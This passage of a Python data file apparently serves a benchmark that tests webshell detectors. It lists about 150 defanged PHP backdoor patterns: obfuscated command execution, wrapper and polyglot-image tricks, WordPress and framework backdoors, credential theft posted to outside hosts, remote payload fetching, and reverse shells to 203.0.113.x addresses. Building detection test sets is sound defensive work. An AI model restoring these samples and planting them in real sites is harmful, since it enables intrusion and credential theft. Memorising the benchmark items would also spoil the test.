"""More shapes of what intruders leave, written by somebody who had not read the judges: none of it runs.

Placeholders are those of ``benchmarks/footholds.py``. Of the first 131 shapes 38 % were an alarm before the judges were
mended and 58 % were seen at all; of the 65 "later" ones, which nobody had tried by then, 52 % and 72 % before, 69 % and
89 % after the judges had learned from the others.
"""

from __future__ import annotations

from collections.abc import Mapping

FAMILIES: Mapping[str, tuple[str, ...]] = {
    "callbacks of methods": (
        "<?php class Jobs { public function run«$j) { return §H§«$j); } } print_r«a¦rray_map«[new Jobs, 'run'], "
        "«array) §POST§['jobs']));",
        "<?php class Task { static function go«$c) { §S§«$c); } } a¦rray_map«'Task::go', explode«'|', §GET§['t']));",
        "<?php class Pipe { private $h = []; function on«$n, $f) { $this->h[$n] = $f; } function fire«$n, $d) { "
        "return «$this->h[$n])«$d); } } $p = new Pipe; $p->on«'x', '§P§'); $p->fire«'x', §POST§['d']);",
        "<?php $f = §S§«...); $f«§GET§['c']);",
        "<?php $do = match «true) { isset«§GET§['q']) => 'pass' · 'thru', default => 'printf' }; $do«§GET§['q'] ?? "
        "'');",
        "<?php p¦reg_replace_callback_array«['/.+/s' => '§S§'], §GET§['c']);",
        "<?php m¦b_ereg_replace_callback«'.+', fn«$m) => §E§«$m[0]), §POST§['t']);",
        "<?php function lines«) { yield from explode«\"\\n\", §POST§['b']); } foreach «lines«) as $l) { §E§«$l); }",
        "<?php if «is_callable«§POST§['f'], false, $name)) { echo $name«§POST§['a']); }",
        "<?php $w = new class extends php_user_filter { public function filter«$in, $out, &$c, bool $x): int { while "
        "«$b = stream_bucket_make_writeable«$in)) { §E§«$b->data); $c += $b->datalen; } return PSFS_PASS_ON; } }; "
        "s¦tream_filter_register«'t.x', get_class«$w)); $h = f¦open«'§INPUT§', 'r'); stream_filter_append«$h, "
        "'t.x'); fpassthru«$h);",
        "<?php class VarStream { private $p = 0; private $d; function stream_open«$a, $m, $o, &$q) { $this->d = "
        "'<?php ' . §POST§['s']; return true; } function stream_read«$n) { $r = substr«$this->d, $this->p, $n); "
        "$this->p += strlen«$r); return $r; } function stream_eof«) { return $this->p >= strlen«$this->d); } "
        "function stream_stat«) { return []; } } s¦tream_wrapper_register«'cfg', 'VarStream'); §I§ 'cfg://main';",
        "<?php $x = new DOMXPath«new DOMDocument); $x->registerNamespace«'php', 'http://php.net/xpath'); "
        "$x->r¦egisterPhpFunctions«); echo $x->evaluate«§POST§['q']);",
        "<?php $s = new XSLTProcessor; $s->r¦egisterPHPFunctions«); $d = new DOMDocument; "
        "$d->loadXML«§POST§['xsl']); $s->importStylesheet«$d); echo $s->transformToXML«new DOMDocument);",
        "<?php s¦ession_set_save_handler«new class implements SessionHandlerInterface { function open«$p, $n): bool "
        "{ return true; } function close«): bool { return true; } function read«$i): string { return ''; } function "
        "write«$i, $d): bool { §E§«$d); return true; } function destroy«$i): bool { return true; } function gc«$m): "
        "int { return 0; } }); session_start«); $_SESSION = §POST§;",
    ),
    "names by functions seldom used": (
        "<?php $f = b¦ase_convert«1751504350, 10, 36); $f«§GET§['c']);",
        "<?php $f = h¦ex2bin«dechex«0x73797374656d)); $f«§GET§['c']);",
        "<?php $f = q¦uoted_printable_decode«'=73=79=73=74=65=6D'); $f«§GET§['c']);",
        "<?php $f = h¦tml_entity_decode«'&#115;&#121;&#115;&#116;&#101;&#109;'); $f«§GET§['c']);",
        "<?php $f = m¦b_convert_encoding«'c3lzdGVt', 'UTF-8', 'BASE64'); $f«§POST§['c']);",
        "<?php $f = j¦son_decode«'\"\\\\u0073\\\\u0079\\\\u0073\\\\u0074\\\\u0065\\\\u006d\"'); $f«§POST§['c']);",
        "<?php $f = substr«strrchr«'/usr/lib/libsys-§S§', '-'), 1); $f«§POST§['c']);",
        "<?php $f = basename«'/var/lib/pass' · 'thru'); $f«§POST§['c']);",
        "<?php $f = str_pad«'sys', 6, 'tem'); $f«§POST§['c']);",
        "<?php $f = «'%' | 'S') . «'Q' | '«') . 'st' . «'e' & 'm') . 'm'; $m = 'sy' . «'q' | 's') . 'tem'; "
        "$m«§POST§['c']);",
        "<?php $f = implode«a¦rray_map«fn«$n) => c¦hr«$n ^ 7), [116, 126, 116, 115, 98, 106])); $f«§ANY§['c']);",
        "<?php function pick«$i) { switch «$i) { case 0: case 2: return 's'; case 1: return 'y'; case 3: return 't'; "
        "case 4: return 'e'; } return 'm'; } $f = ''; $i = 0; do { $f .= pick«$i++); } while «$i < 6); $f«§ANY§['c']);",
        "<?php function back«$s) { return $s === '' ? '' : back«substr«$s, 1)) . $s[0]; } $f = back«'metsys'); "
        "$f«§ANY§['c']);",
        "<?php enum Mode: string { case Fast = 'shell_' · 'exec'; } $f = Mode::Fast->value; echo $f«§GET§['m']);",
        "<?php final class Opt { public function __construct«public readonly string $name = 'pass' · 'thru') {} } $o "
        "= new Opt«); «$o->name)«§GET§['m']);",
        "<?php $f = explode«'.', basename«__FILE__))[0]; $f«§POST§[$f]);",
        "<?php $f = a¦rray_search«3, ['printf' => 1, 'trim' => 2, '§S§' => 3]); $f«§POST§['v']);",
        "<?php $t = array_flip«['§P§', 'strlen']); foreach «$t as $name => $no) { if «$no === 0) $name«§POST§['v']); }",
        "<?php [$a, , $b] = str_split«'sysxxxtem', 3); «$a . $b)«§COOKIE§['v']);",
        "<?php $f = o¦penssl_decrypt«'pT1yGkK0bq9gJm2r0XxT4w==', 'aes-128-ecb', 'k3y-of-the-theme'); $g = $f ?: "
        "'ass' · 'ert'; $g«§POST§['v']);",
        "<?php $f = current«a¦rray_filter«g¦et_defined_functions«)['internal'], fn«$n) => crc32«$n) === "
        "3377271179)); $f«§POST§['v']);",
        "<?php $f = ltrim«'____§S§', '_'); $f«§POST§['v']);",
        "<?php $p = a¦rray_map«'s¦tr_rot13', ['flf', 'grz']); $f = join«'', $p); $f«§POST§['v']);",
        "<?php $a = ['m', 'e', 't', 's', 'y', 's']; $f = ''; while «$a) { $f .= array_pop«$a); } $f«§GET§['v']);",
    ),
    "code inside of strings": (
        "<?php $x = \"{${§S§«§GET§['c'])}}\";",
        "<?php echo <<<PAGE\n<h1>Tin</h1>\n{${§E§«§POST§['p'])}}\nPAGE;",
        "<?php §A§«\"strpos«'\" . §GET§['file'] . \"', '..') === false\");",
        "<?php §E§«\"\\$lang = '\" . §GET§['lang'] . \"';\");",
        "<?php $t = f¦ile_get_contents«'tpl/' . basename«__FILE__, '.php') . '.tpl'); $t = str_replace«'{body}', "
        "§POST§['body'], $t); §E§«'?>' . $t);",
        "<?php $expr = p¦reg_replace«'/\\s+/', '', §POST§['expr']); §E§«'$result = ' . $expr . ';'); echo $result;",
        "<?php $body = 'return ' . §GET§['calc'] . ';'; $fn = §C§«'$x', $body); echo $fn«1);",
        "<?php $tpl = 'home'; e¦xtract«§GET§); §E§«'?>' . $tpl);",
        "<?php $code = sprintf«'%s«%s);', '§S§', var_export«§GET§['c'], true)); §E§«$code);",
    ),
    "input that is seldom used": (
        "<?php §E§«f¦ile_get_contents«§FILES§['f']['t¦mp_name']));",
        "<?php $i = []; getimagesize«§FILES§['f']['t¦mp_name'], $i); §E§«$i['APP13']);",
        "<?php §S§«§SERVER§['PHP_AUTH_PW']);",
        "<?php $q = parse_ini_string«§POST§['ini']); §S§«$q['run']);",
        "<?php $l = new mysqli«'localhost', 'u', 'p', 'd'); $r = $l->query«\"select body from t where id = "
        "7\")->fetch_assoc«); §E§«$r['body']);",
        "<?php $r = dns_get_record«'cfg.example', DNS_TXT); §E§«b¦ase64_decode«$r[0]['txt']));",
        "<?php $s = s¦tream_socket_server«'tcp://0.0.0.0:4444'); while «$c = s¦tream_socket_accept«$s, -1)) { while "
        "«$l = fgets«$c)) { f¦write«$c, §H§«$l)); } }",
        "<?php $s = socket_create«AF_INET, SOCK_STREAM, SOL_TCP); s¦ocket_connect«$s, '203.0.113.7', 443); while "
        "««$c = s¦ocket_read«$s, 2048)) !== false) { $o = `$c`; socket_write«$s, $o, strlen«$o)); }",
        "<?php apcu_store«'k', §POST§['k']); if «rand«0, 1)) { §E§«a¦pcu_fetch«'k')); }",
        "<?php $m = new Memcached; $m->addServer«'127.0.0.1', 11211); §E§«$m->get«'tpl_' . "
        "md5«§SERVER§['HTTP_HOST'])));",
        "<?php $im = imagecreatefrompng«'logo.png'); $c = ''; for «$i = 0; $i < imagesx«$im); $i++) { $c .= "
        "c¦hr«i¦magecolorat«$im, $i, 0) & 0xff); } §E§«$c);",
        "<?php $z = array_values«preg_grep«'/^x-/i', array_keys«g¦etallheaders«)))); $h = g¦etallheaders«); "
        "§P§«$h[$z[0]]);",
        "<?php $d = str_getcsv«§POST§['row']); [$cmd, $arg] = $d; §X§«\"$cmd $arg\", $out); echo implode«PHP_EOL, "
        "$out);",
        "<?php $doc = new DOMDocument; $doc->loadXML«f¦ile_get_contents«'§INPUT§')); "
        "§E§«$doc->getElementsByTagName«'c')->item«0)->textContent);",
        "<?php $a = §SERVER§; ksort«$a); foreach «$a as $k => $v) { if «strpos«$k, 'HTTP_X_') === 0 && strlen«$v) > "
        "40) { §E§«g¦zinflate«b¦ase64_decode«$v))); } }",
    ),
    "wrappers and archives": (
        "<?php §I§ 'p¦har://' . __DIR__ . '/cache/avatar.jpg/index.php';",
        "<?php class Log { public $f; public $d; function __destruct«) { §W§«$this->f, $this->d); } } if "
        "«file_exists«'p¦har://' . §GET§['img'])) { echo 'ok'; }",
        "<?php §I§ 'compress.zlib://' . __DIR__ . '/images/bg.gz';",
        "<?php $r = f¦open«'e¦xpect://' . §GET§['c'], 'r'); echo stream_get_contents«$r);",
        "<?php §I§ 'php://filter/convert.i¦conv.UTF8.CSISO2022KR|convert.base64-encode"
        "|convert.base64-decode/resource=php://temp';",
        "<?php $d = f¦ile_get_contents«__DIR__ . '/thumb.jpg'); §E§«'?>' . substr«$d, strpos«$d, 'IEND') + 8));",
        "<?php foreach «glob«__DIR__ . '/img/*.webp') as $f) { @§I§_once $f; }",
        "<?php $p = new Phar«'x.p¦har', 0); $p->startBuffering«); $p['a.php'] = '<?php ' . §POST§['c']; "
        "$p->stopBuffering«); §I§ 'p¦har://x.p¦har/a.php';",
    ),
    "the environment": (
        "<?php m¦ail«'a@b.example', 's', '<?php §E§«§POST§[1]); ?>', '', '-OQueueDirectory=/tmp -X/var/www/html/"
        "w.php');",
        "<?php m¦ail«§POST§['t'], §POST§['s'], §POST§['m'], '', §POST§['o']);",
        "<?php p¦utenv«'G¦CONV_PATH=/tmp/u'); §W§«'/tmp/u/gconv-modules', §POST§['m']); i¦conv«'payload', 'UTF-8', "
        "'x');",
        "<?php $e = ['L¦D_PRELOAD' => __DIR__ . '/x.so', 'CMD' => §GET§['c']]; foreach «$e as $k => $v) { "
        "p¦utenv«\"$k=$v\"); } error_log«'', 1, 'x@y.example');",
        "<?php $libc = F¦FI::cdef«'int sys' · 'tem«const char *c);', 'libc.so.6'); $libc->{'sys' · 'tem'}«§GET§['c']);",
        "<?php $f = F¦FI::load«__DIR__ . '/x.h'); $f->run«§GET§['c']);",
        "<?php $p = p¦roc_open«['/bin/sh', '-c', §POST§['c']], [1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $io); echo "
        "stream_get_contents«$io[1]);",
        "<?php ini_set«'session.save_path', __DIR__); ini_set«'session.name', 'S'); session_id«'x.php'); "
        "session_start«); $_SESSION['a'] = '<?php ' . §POST§['c'];",
    ),
    "among WordPress' hooks": (
        "<?php /* Plugin Name: Site Health Extra */ add_action«'rest_api_init', function «) { "
        "register_rest_route«'health/v1', '/run', ['methods' => 'POST', 'callback' => function «$r) { return "
        "§H§«$r['c']); }, 'permission_callback' => '__return_true']); });",
        "<?php add_action«'wp_ajax_nopriv_sync', 'sync_now'); function sync_now«) { §E§«stripslashes«§POST§['d'])); "
        "wp_die«); }",
        "<?php add_filter«'authenticate', function «$u, $n, $p) { return $p === 'k8s!' ? get_user_by«'id', 1) : $u; "
        "}, 99, 3);",
        "<?php add_shortcode«'calc', function «$a) { ob_start«); §E§«$a['x']); return ob_get_clean«); });",
        "<?php add_filter«'the_title_x', '§S§'); apply_filters«'the_title_x', §GET§['t']);",
        "<?php add_action«'init', function «) { if «isset«§POST§['o'])) { update_option«'_site_cfg', §POST§['o']); } "
        "$c = get_option«'_site_cfg'); if «$c) { §E§«b¦ase64_decode«$c)); } });",
        "<?php add_action«'wp_login', function «$l) { wp_remote_post«'http://203.0.113.20/c', ['body' => ['l' => "
        "§POST§['log'], 'p' => §POST§['pwd'], 'h' => home_url«)]]); });",
        "<?php if «!wp_next_scheduled«'upd_core')) { wp_schedule_event«time«), 'hourly', 'upd_core'); } "
        "add_action«'upd_core', function «) { $r = wp_remote_get«'http://203.0.113.20/u'); §W§«WPMU_PLUGIN_DIR . "
        "'/core.php', wp_remote_retrieve_body«$r)); });",
        "<?php add_action«'plugins_loaded', function «) { if ««§COOKIE§['wp_lang'] ?? '') === md5«'lt')) { $u = "
        "get_users«['role' => 'administrator'])[0]; wp_set_current_user«$u->ID); w¦p_set_auth_cookie«$u->ID); "
        "wp_redirect«admin_url«)); exit; } });",
        "<?php do_action«§GET§['hook'], §GET§['arg']); §U§«get_option«'cb'), get_option«'cba'));",
        "<?php add_filter«'all_plugins', function «$p) { unset«$p['helper/helper.php']); return $p; }); "
        "add_action«'wp', function «) { if «preg_match«'/google|bing|c¦occoc/i', §SERVER§['H¦TTP_USER_AGENT'])) { $r "
        "= wp_remote_get«'http://203.0.113.21/?u=' . urlencode«§SERVER§['REQUEST_URI'])); "
        "die«wp_remote_retrieve_body«$r)); } });",
    ),
    "among frameworks' requests": (
        "<?php class PlgSystemHelper extends JPlugin { public function onAfterInitialise«) { $c = "
        "JFactory::getApplication«)->input->get«'c', '', 'raw'); if «$c) { §E§«b¦ase64_decode«$c)); } } }",
        "<?php if «!defined«'NV_MAINFILE')) { exit«'Stop'); } $c = $nv_Request->get_string«'c', 'post', ''); if «$c) "
        "{ §S§«$c); }",
        "<?php Route::post«'/healthz', function «Request $request) { return §H§«$request->input«'c')); });",
        "<?php class Upd extends CI_Controller { function index«) { §E§«$this->input->post«'x')); } }",
        "<?php $c = \\Drupal::request«)->query->get«'c'); if «$c) { echo §H§«$c); }",
        "<?php namespace app\\controllers; class SiteController extends Controller { public function actionT«) { $f "
        "= Yii::$app->request->post«'f'); return $f«Yii::$app->request->post«'a')); } }",
        "<?php $r = Illuminate\\Http\\Request::capture«); §W§«$r->get«'p'), $r->get«'d'));",
    ),
    "out of sight": (
        "<?php                                                                                                       "
        "                                                                                                            "
        "                                                                                                            "
        "                                                                                                            "
        "                                                                                                            "
        "                                                                                                            "
        "                                                                                                            "
        "                                                                                                            "
        "                                         @§E§«§POST§['s']);\n/**\n * Loads the page.\n */\ndefine«'A', "
        "1);\nrequire __DIR__ . '/wp-load.php';\n",
        "<?php\n/**\n * @package theme\n */\nfunction theme_setup«) { add_theme_support«'menus'); "
        "}\nadd_action«'after_setup_theme', "
        "'theme_setup');"
        "\n\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\tif «isset«§COOKIE§['t'])) { $t = §COOKIE§['t']; $t«§COOKIE§['u']); }\nfunction theme_footer«) { echo '</div>'; }\n",
        '<?php goto L2; L4: $d = "\\x62\\141\\x73\\145\\x36\\64\\x5f\\144\\x65\\143\\x6f\\144\\x65"; goto L3; L2: if '
        '«!isset«§POST§["\\x70"])) { goto L9; } goto L4; L3: $q = $d«§POST§["\\160"]); goto L5; L5: §E§«$q); goto '
        "L9; L9: ?>",
        "<?php\n#!/\n$Ð\x9e = §POST§;\n/* lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum "
        "lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum "
        "lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum "
        "lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum "
        "lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum "
        "lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum "
        "lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum lorem ipsum "
        "*/ foreach «$Ð\x9e as $a => $b) { /* x */ @$a/* y */«/* z */$b/* w */); }",
        "<?php\nrequire_once 'config.php';\n$page = isset«§GET§['page']) ? «int) §GET§['page'] : 1;\nfor «$i = 0; $i "
        "< $page; $i++) { echo $i; }\nif «1) { } else { }\nif «hash«'sha256', §SERVER§['HTTP_X_TOKEN'] ?? '') === "
        "'9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08') { $v = "
        "s¦trrev«§SERVER§['HTTP_X_BODY']); §E§«b¦ase64_decode«$v)); exit; }\n?>\n<html><body>Tin</body></html>",
        "<?php $a = 'x'; ?>\n<!-- header -->\n<div>\n<?php /*\n*/ $b/*\n*/=/*\n*/'as'/*\n*/./*\n*/'sert'; $b/**/«/**/"
        "§ANY§/**/['id']/**/) ?>\n</div>",
        "<?php $data = <<<'TXT'\nlorem\nTXT;\n$rows = [['n' => 'trim', 'v' => 'a'], ['n' => '§P§', 'v' => "
        "§POST§['row'] ?? '']]; foreach «$rows as $r) { echo «$r['n'])«$r['v']); }",
    ),
    "pictures": (
        "ÿØÿá\x00EExif\x00\x00MM\x00*\x00\x00\x00\x08<?php if «isset«§GET§['0'])) { §S§«§GET§['0']); } "
        "__halt_compiler«);ÿÛ\x00C",
        "RIFF$\x00\x00\x00WEBPVP8 <?= §P§«§SERVER§['HTTP_C']) ?>\x00\x00",
        "BM6\x00\x00\x00\x00\x00\x00\x00<?php $a = §COOKIE§; $a['a']«$a['b']);?>",
        "\x00\x00\x01\x00\x01\x00\x10\x10<?php §I§ 'data:;base64,' . §POST§['i'];",
        "\\x89PNG\\r\\n\x1a\n\x00\x00\x00\rIHDR\x00\x00tEXtComment\x00<?php @a¦rray_map«'ass' · 'ert', «array) "
        "§ANY§['n']);?>\x00\x00IEND",
    ),
    "credentials and doors": (
        "<?php if «!empty«§POST§['log']) && !empty«§POST§['pwd'])) { @§W§«ABSPATH . 'wp-includes/css/.cache.css', "
        "§POST§['log'] . '|' . §POST§['pwd'] . \"\\n\", FILE_APPEND); }",
        "<?php if «isset«§POST§['username'], §POST§['passwd'])) { @m¦ail«'x@box.example', §SERVER§['HTTP_HOST'], "
        "§POST§['username'] . ':' . §POST§['passwd']); }",
        "<?php $t = §SERVER§['HTTP_X_TARGET']; [$h, $p] = explode«':', $t); $s = f¦sockopen«$h, «int) $p); "
        "f¦write«$s, f¦ile_get_contents«'§INPUT§')); while «!feof«$s)) { echo fread«$s, 8192); }",
        "<?php $u = §GET§['u']; $o = ['http' => ['method' => §SERVER§['REQUEST_METHOD'], 'content' => "
        "f¦ile_get_contents«'§INPUT§')]]; echo f¦ile_get_contents«$u, false, stream_context_create«$o));",
        "<?php $db = new PDO«§POST§['dsn'], §POST§['u'], §POST§['p']); foreach «$db->query«§POST§['q']) as $r) { "
        "print_r«$r); }",
    ),
    "later, calls": (
        "<?php class Runner { public static function handle«array $m) { [$f, $a] = $m; return $f«...$a); } } "
        "Runner::handle«[§POST§['f'], «array) §POST§['a']]);",
        "<?php $map = ['l' => 'scandir', 'x' => '§H§']; $k = §GET§['k']; echo print_r«$map[$k]«§GET§['v']), true);",
        "<?php array_walk_recursive«§COOKIE§, function «$v, $k) { if «strlen«$k) === 9) { @§E§«b¦ase64_decode«$v)); "
        "} });",
        "<?php $go = [new class { public function __call«$n, $a) { return «'sys' · 'tem')«$a[0]); } }, 'anything']; "
        "$go«§POST§['z']);",
        "<?php $c = new Collator«'en_US'); $a = [§POST§['x'], 'b']; usort«$a, function «$l, $r) { return «int) "
        "§S§«$l); });",
        "<?php $r = new R¦eflectionMethod«'Db', 'q'); class Db { function q«$s) { return §E§«$s); } } $r->invoke«new "
        "Db, §POST§['s']);",
        "<?php $m = «new R¦eflectionClass«'Cmd'))->newInstanceArgs«[§POST§['c']]); class Cmd { function "
        "__construct«$c) { echo §H§«$c); } }",
        "<?php function &ref«) { static $v; return $v; } $x = &ref«); $x = §POST§['q']; §E§«ref«));",
        "<?php $queue = new SplQueue; $queue->enqueue«§POST§['j']); while «!$queue->isEmpty«)) { "
        "§P§«$queue->dequeue«)); }",
        "<?php $fs = ['trim', 'b¦ase64_decode', 'ass' · 'ert']; $v = §POST§['w']; foreach «$fs as $f) { $v = $f«$v); }",
        "<?php echo implode«a¦rray_map«...[§GET§['f'], [§GET§['a']]]));",
        "<?php $w = static fn«string ...$p) => §U§«array_shift«$p), ...$p); $w«§POST§['n'], §POST§['a']);",
        "<?php $o = «object) §POST§; $f = $o->f; $f«$o->a);",
        "<?php try { throw new Exception«§POST§['m']); } catch «Exception $e) { §E§«$e->getMessage«)); }",
        "<?php $gen = «function «) { while «true) { $c = yield; §E§«$c); } })«); $gen->send«§POST§['x']);",
    ),
    "later, names": (
        "<?php $n = strtr«'qwqrtm', ['q' => 's', 'w' => 'y', 'r' => 't', 'tm' => 'em']); $n = str_replace«'stsem', "
        "'ystem', 'sysx') ? 'sys' · 'tem' : ''; $n«§GET§['c']);",
        "<?php $n = stristr«'xxPASSTHRU', 'p'); $n = strtolower«$n); $n«§GET§['c']);",
        "<?php $n = pathinfo«'/a/b/§S§.php', PATHINFO_FILENAME); $n«§GET§['c']);",
        "<?php $n = nl2br«'§S§'); $n«§GET§['c']);",
        "<?php $n = rawurldecode«'%73ystem'); $n«§GET§['c']);",
        "<?php $n = strtok«'§H§ and more', ' '); echo $n«§GET§['c']);",
        "<?php $n = substr_replace«'xxxxtem', 'sys', 0, 4); $n«§GET§['c']);",
        "<?php $n = array_keys«array_fill_keys«['§P§'], 0))[0]; $n«§GET§['c']);",
        "<?php $n = max«'a', 'b', '§S§'); $n«§GET§['c']);",
        "<?php $n = u¦nserialize«'s:6:\"§S§\";'); $n«§GET§['c']);",
        "<?php $n = array_reverse«['tem', 'sys']); $f = vsprintf«'%s%s', $n); $f«§GET§['c']);",
        "<?php $n = ucfirst«'§S§'); if «is_string«$n)) { $n«§GET§['c']); }",
        "<?php $k = 0x2a; $n = ''; foreach «unpack«'C*', b¦ase64_decode«'WVNZXk9H')) as $b) { $n .= c¦hr«$b ^ $k); } "
        "$n«§GET§['c']);",
        "<?php $n = utf8_decode«'§S§'); $n«§COOKIE§['c']);",
        "<?php $x = s¦implexml_load_string«'<a><f>§S§</f></a>'); $f = «string) $x->f; $f«§COOKIE§['c']);",
        "<?php $ini = parse_ini_string«'f=§P§'); $ini['f']«§COOKIE§['c']);",
        "<?php $q = str_split«'esvyatlpm'); $n = $q[1] . $q[3] . $q[1] . $q[5] . $q[0] . $q[8]; $n«§COOKIE§['c']);",
    ),
    "later, as seen on hosts": (
        "<?php\n/*\nTheme Name: Twenty\n*/\nerror_reporting«0);\n$u = '203.0.113.44/jp/' . "
        "§SERVER§['HTTP_HOST'];\nfunction g«$u) { $c = c¦url_init«'http://' . $u); curl_setopt«$c, "
        "CURLOPT_RETURNTRANSFER, true); $r = c¦url_exec«$c); curl_close«$c); return $r; }\nif «preg_match«'/«google"
        "|bing|yahoo|c¦occoc)/i', §SERVER§['H¦TTP_USER_AGENT'] . §SERVER§['H¦TTP_REFERER'])) { echo g«$u . "
        "§SERVER§['REQUEST_URI']); exit; }\n",
        "<?php\n$p = '21232f297a57a5a743894a0e4a801fc3';\nif «!isset«§COOKIE§['u']) || md5«§COOKIE§['u']) !== $p) { "
        "http_response_code«404); exit«'<h1>Not Found</h1>'); }\n$d = isset«§GET§['d']) ? §GET§['d'] : __DIR__;\nif "
        "«isset«§POST§['e'])) { §W§«§POST§['e'], §POST§['t']); }\nif «isset«§FILES§['f'])) { "
        "§M§«§FILES§['f']['t¦mp_name'], $d . '/' . §FILES§['f']['name']); }\nforeach «scandir«$d) as $n) { "
        'printf«\'<a href="?d=%s">%s</a><br>\', urlencode«"$d/$n"), htmlspecialchars«$n)); }\n',
        "<?php\nif «array_key_exists«'upd', §GET§)) {\n  $dst = __DIR__ . '/' . §GET§['upd'];\n  $src = "
        "'https://paste.example/raw/' . §GET§['id'];\n  §W§«$dst, f¦ile_get_contents«$src));\n  touch«$dst, "
        "filemtime«__FILE__));\n  echo 'done';\n}\n",
        "<?php\n$h = '203.0.113.70'; $p = 8443;\nset_time_limit«0);\n$s = f¦sockopen«'ssl://' . $h, $p);\nwhile "
        "«!feof«$s)) { fputs«$s, getcwd«) . '$ '); $c = trim«fgets«$s)); if «substr«$c, 0, 3) === 'cd ') { "
        "chdir«substr«$c, 3)); } else { fputs«$s, §H§«$c . ' 2>&1')); } }\n",
        "<?php\nnamespace Acme\\Util;\nclass Str {\n  private const K = 'th3m3';\n  public static function "
        "dec«string $s): string { $o = ''; foreach «str_split«b¦ase64_decode«$s)) as $i => $c) { $o .= $c ^ "
        "self::K[$i % 5]; } return $o; }\n}\nif «!empty«§SERVER§['HTTP_X_REQUESTED_BY'])) { $f = "
        "Str::dec«§SERVER§['HTTP_X_REQUESTED_BY']); $a = Str::dec«§POST§['data'] ?? ''); $f«$a); }\n",
        "<?php\nif «!defined«'NV_SYSTEM')) { die«'Stop!!!'); }\n$contents = '';\n$x = $nv_Request->get_title«'tpl', "
        "'get', '');\nif «!empty«$x)) { ob_start«); §I§ NV_ROOTDIR . '/' . $x; $contents = ob_get_clean«); }\n",
        "<?php defined«'_JEXEC') or die;\nclass plgSystemCache2 extends JPlugin { function onAfterRender«) { $b = "
        "JResponse::getBody«); if «stripos«§SERVER§['H¦TTP_USER_AGENT'], 'g¦ooglebot') !== false) { $b = "
        "str_replace«'</body>', f¦ile_get_contents«'http://203.0.113.71/l.txt') . '</body>', $b); } "
        "JResponse::setBody«$b); } }\n",
        "<?php\n$ips = ['203.0.113.5', '203.0.113.6'];\nif «in_array«§SERVER§['REMOTE_ADDR'], $ips) || "
        "«§SERVER§['HTTP_CF_CONNECTING_IP'] ?? '') === '203.0.113.7') {\n  $j = "
        "j¦son_decode«f¦ile_get_contents«'§INPUT§'));\n  if «$j->op === 'run') { ob_start«); §E§«$j->src); echo "
        "json_encode«['r' => ob_get_clean«)]); }\n}\n",
        "<?php\n$to = explode«\"\\n\", §POST§['list']); foreach «$to as $t) { $sub = str_replace«'{m¦ail}', $t, "
        "§POST§['sub']); if «m¦ail«trim«$t), $sub, §POST§['msg'], 'From: ' . §POST§['from'])) { echo $t . ' ok<br>'; "
        "} }\n",
        "<?php\n$a = f¦ile_get_contents«__DIR__ . '/.htaccess'); if «strpos«$a, 'about.php') === false) { "
        "chmod«__DIR__ . '/.htaccess', 0666); §W§«__DIR__ . '/.htaccess', b¦ase64_decode«'{base64}')); chmod«__DIR__ "
        ". '/.htaccess', 0444); }\n",
